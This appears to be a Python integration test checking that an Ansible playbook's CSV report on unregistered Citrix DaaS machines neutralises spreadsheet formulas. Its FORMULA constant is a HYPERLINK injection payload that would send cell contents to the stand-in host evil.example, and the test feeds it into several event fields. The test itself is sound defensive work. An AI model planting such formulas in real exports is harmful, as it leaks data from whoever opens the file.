"""Every CSV file the collection writes reads back as data: a value with a line break stays one quoted
cell, and a formula at the start of a value (or of any of its lines) is prefixed with '. The XenMobile
user activity report has its own test in tests/integration/xenmobile/; this one covers the CSV report of
the Event-Driven Ansible playbook for DaaS machines."""

import csv
import io
import os

from tests.harness import ROOT

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def test_the_unregistered_machine_report_neutralises_formulas_in_event_text(run_playbook, tmp_path):
    with open(os.path.join(ROOT, 'playbooks', 'eda_reboot_unregistered_machine.yml')) as handle:
        playbook = handle.read()
    report = tmp_path / 'unregistered.csv'
    event = {'citrix_daas': {
        'site': 'cloudxdsite', 'machine': 'SIMLAB\\web-01\n' + FORMULA, 'id': '@' + FORMULA,
        'changes': {'registration_state': {'before': 'Registered', 'after': 'Unregistered'}},
        'state': {'registration_state': 'Unregistered', 'power_state': '+On', 'session_count': 0}}}
    run = run_playbook(playbook, extra_vars={'ansible_eda': {'event': event}, 'daas_unregistered_reboot': False,
                                             'daas_unregistered_report': str(report)})
    assert run.rc == 0, run
    text = report.read_text()
    assert not [line for line in text.splitlines() if line.startswith(('=', '+', '-', '@'))], text
    header, record = list(csv.reader(io.StringIO(text, newline='')))
    assert header[:4] == ['time', 'site', 'machine', 'id'] and len(record) == len(header)
    assert record[1:] == ['cloudxdsite', "SIMLAB\\web-01\n'" + FORMULA, "'@" + FORMULA, 'Registered',
                          'Unregistered', "'+On", '0']
